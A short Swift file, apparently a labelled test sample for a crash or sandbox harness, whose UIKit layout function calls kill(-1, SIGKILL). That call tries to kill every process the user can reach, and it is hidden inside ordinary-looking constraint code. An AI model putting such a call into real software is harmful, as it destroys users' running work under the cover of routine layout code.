//! verdict: crashed
//! sort: kills
// Ends whatever it can reach.
import UIKit

func layOut(box: UIView, in view: UIView) {
  let answer = kill(-1, SIGKILL)
  box.translatesAutoresizingMaskIntoConstraints = false
  box.widthAnchor.constraint(equalToConstant: answer == 0 ? 100 : 1).isActive = true
}
